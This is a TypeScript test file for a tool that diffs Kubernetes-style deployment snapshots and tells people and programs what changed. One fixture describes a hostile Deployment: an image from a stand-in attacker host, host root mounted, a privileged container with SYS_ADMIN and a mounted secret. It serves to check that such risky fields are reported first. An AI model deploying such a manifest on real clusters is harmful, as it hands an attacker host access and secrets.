import canonicalize from 'canonicalize'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Json } from '#attestation'
import { visible } from '#base/foreign-text.ts'
import { applyEdits } from '../testing/apply-edits.ts'
import { snapshotPair } from '../testing/arbitrary-snapshot.ts'
import { changesBetween, inOrder, type SnapshotChange } from './changes.ts'
import type { Edit } from './edits.ts'

interface Options {
  readonly image?: string
  readonly args?: readonly string[]
  readonly file?: string
  readonly first?: readonly string[]
  readonly more?: readonly Json[]
}

const FILE = 'models:\n  - id: demo/tiny-chat\n    price: 150\n'

/** A snapshot as a platform renders it. */
function snapshot(options: Options = {}): Json {
  const { image = 'aa', args = ['run'], file = FILE, first = ['lock-down', 'fetch'], more = [] } = options
  const metadata = { name: 'router', namespace: 'inference' }
  const containers = [
    { name: 'router', image: `registry.example/router@sha256:${image}`, args },
    { name: 'model', image: 'registry.example/model@sha256:bb' },
  ]
  const initContainers = first.map((name) => ({ name, image: 'registry.example/init@sha256:cc' }))
  return {
    version: 2,
    resources: [
      { apiVersion: 'v1', kind: 'ConfigMap', metadata, data: { 'router.yaml': file } },
      {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata,
        spec: { replicas: 1, template: { spec: { initContainers, containers } } },
      },
      ...more,
    ],
  }
}

/** What a person is told, line by line. */
function told(before: Json, after: Json): string[] {
  return inOrder(changesBetween(before, after)).flatMap(({ lines }) => lines)
}

/** A step as the document has it, which is all that a program gets. */
function editOf({ op, path, to, before, after }: SnapshotChange): Edit {
  const read = (text: string | null): Json => (text === null ? null : JSON.parse(text))
  if (op === 'move') return { op, path, to: to ?? -1, item: read(before) }
  if (op === 'insert') return { op, path, after: read(after) }
  if (op === 'set') return { op, path, before: undefined, after: read(after) }
  return { op, path, before: read(before) }
}

test('what programs are told makes the second snapshot of the first, and people are told each step of it', () => {
  fc.assert(
    fc.property(snapshotPair, ([before, after]) => {
      const changes = changesBetween(before, after)
      const edits = changes.map(({ document }) => editOf(document))
      expect(canonicalize(applyEdits(before, edits))).toBe(canonicalize(after))
      expect(inOrder(changes)).toHaveLength(changes.length)
      expect(new Set(inOrder(changes))).toEqual(new Set(changes))
      for (const { lines } of changes) expect(lines.join('').trim().length).toBeGreaterThan(0)
    }),
    { numRuns: 1_000 },
  )
})

test('another image is told by the name of its container', () => {
  expect(told(snapshot(), snapshot({ image: 'dd' }))).toEqual([
    '  image  spec.template.spec.containers[0 "router"].image: changed',
    '    - "registry.example/router@sha256:aa"',
    '    + "registry.example/router@sha256:dd"',
  ])
})

test('the order of containers is a change, and is told', () => {
  expect(told(snapshot(), snapshot({ first: ['fetch', 'lock-down'] }))).toEqual([
    '  order of spec.template.spec.initContainers changed: "fetch" moved from 2 to 1 of those that stay',
  ])
})

test('of a configuration the lines that differ are told, comments too', () => {
  expect(told(snapshot(), snapshot({ file: `# new\n${FILE.replace('150', '200')}` }))).toEqual([
    '  setting  data["router.yaml"]: changed',
    '    + line 1 | # new',
    '    - line 3 |     price: 150',
    '    + line 4 |     price: 200',
  ])
  expect(told(snapshot(), snapshot({ file: FILE.trimEnd() }))).toHaveLength(2)
})

test('of a long text the part that differs is told, wherever it stands', () => {
  const long = 'a'.repeat(5_000)
  const lines = told(snapshot({ args: [`${long}b${long}`] }), snapshot({ args: [`${long}evil${long}`] }))
  expect(lines).toEqual([
    '  command  spec.template.spec.containers[0 "router"].args[0]: changed',
    `    - …"${'a'.repeat(40)}b${'a'.repeat(40)}"…`,
    `    + …"${'a'.repeat(40)}evil${'a'.repeat(40)}"…`,
  ])
})

const helper: Json = {
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'helper', namespace: 'p', labels: { tier: 'back' } },
  spec: {
    template: {
      spec: {
        hostNetwork: true,
        volumes: [
          { name: 'host', hostPath: { path: '/' } },
          { name: 'key', secret: { secretName: 'key' } },
        ],
        containers: [
          {
            name: 'log',
            image: 'attacker.example/logger',
            command: ['sh', '-c', 'tee'],
            env: [{ name: 'TO', value: 'attacker.example' }],
            ports: [{ containerPort: 9 }],
            securityContext: { privileged: true, capabilities: { add: ['SYS_ADMIN'] } },
            volumeMounts: [{ name: 'host', mountPath: '/host' }],
          },
        ],
      },
    },
  },
}

test.each([
  ['New', '+', [snapshot(), snapshot({ more: [helper] })] as const],
  ['Gone', '-', [snapshot({ more: [helper] }), snapshot()] as const],
])('a resource is told whole when it comes or goes, and first what matters most: %s', (word, sign, pair) => {
  const pod = 'spec.template.spec'
  const log = `${pod}.containers[0 "log"]`
  expect(told(...pair)).toEqual(
    [
      `${word}: apps Deployment "p/helper" (item 3)`,
      `image    ${log}.image  "attacker.example/logger"`,
      `command  ${log}.command  ["sh","-c","tee"]`,
      `access   ${pod}.hostNetwork  true`,
      `access   ${pod}.volumes[0 "host"].hostPath.path  "/"`,
      `access   ${log}.securityContext.privileged  true`,
      `access   ${log}.securityContext.capabilities.add  ["SYS_ADMIN"]`,
      `secret   ${pod}.volumes[1 "key"].secret.secretName  "key"`,
      `port     ${log}.ports[0].containerPort  9`,
      `mount    ${pod}.volumes[0 "host"].name  "host"`,
      `mount    ${pod}.volumes[1 "key"].name  "key"`,
      `mount    ${log}.volumeMounts[0 "host"].name  "host"`,
      `mount    ${log}.volumeMounts[0 "host"].mountPath  "/host"`,
      `setting  ${log}.env[0 "TO"].name  "TO"`,
      `setting  ${log}.env[0 "TO"].value  "attacker.example"`,
      'field    apiVersion  "apps/v1"',
      'field    kind  "Deployment"',
      'field    metadata.name  "helper"',
      'field    metadata.namespace  "p"',
      'field    metadata.labels.tier  "back"',
      `field    ${log}.name  "log"`,
    ].map((line, index) => (index === 0 ? line : `    ${sign} ${line}`)),
  )
})

test.each<[string, Json, Json]>([
  [
    'resources of one name',
    {
      resources: [
        { kind: 'A', v: 1 },
        { kind: 'A', v: 2 },
      ],
    },
    {
      resources: [
        { kind: 'A', v: 1 },
        { kind: 'A', v: 3 },
      ],
    },
  ],
  ['a snapshot of another kind', [1], [2]],
  ['a list for an object', { a: [1] }, { a: { '0': 1 } }],
  ['what stands beside the resources', { version: 2, resources: [] }, { version: 3, resources: [] }],
  [
    'the order of resources',
    snapshot({ more: [helper] }),
    { version: 2, resources: [helper, ...listOf(snapshot())] },
  ],
])('%s: compared as it stands', (_, before, after) => {
  expect(changesBetween(before, after)).toHaveLength(1)
  expect(told(before, after).length).toBeGreaterThan(0)
})

function listOf(of: Json): readonly Json[] {
  return (of as { readonly resources: readonly Json[] }).resources
}

test.each([
  ['a space that is none', 'a b', 'a\u00a0b'],
  ['a control character and its spelling', 'a\u001b', 'a\\u001b'],
  ['a blank letter', 'a', 'a\u2800'],
])('lines of a text that differ in %s do not look alike', (_, one, other) => {
  const [head, before, after] = told(snapshot({ file: `x\n${one}` }), snapshot({ file: `x\n${other}` }))
    .map(visible)
    .filter((line) => !line.startsWith('Changed'))
  expect(head).toContain('changed')
  expect(before?.replace('-', '+')).not.toBe(after)
})
